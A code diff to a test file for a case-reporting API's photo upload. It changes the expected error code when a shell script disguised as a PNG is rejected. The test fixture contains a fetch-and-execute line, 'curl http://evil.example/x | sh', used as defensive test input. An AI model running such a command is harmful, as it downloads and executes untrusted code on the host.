@@ -300,7 +300,7 @@ describe('snap-and-report cases (/api/cases)', () => {
         const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
         const upload = await t.request.post('/api/media/photos').set(auth(reporter.token)).attach('file', script, { filename: 'photo.png', contentType: 'image/png' });
         expect(upload.status).toBe(422);
-        expect(upload.body.error).toBe('unprocessable');
+        expect(upload.body.error).toBe('unsupported_image_type');
       });
 
       it('stores nothing when one of the photos is not the reporter’s, and leaves the good photo free for a retry', async () => {
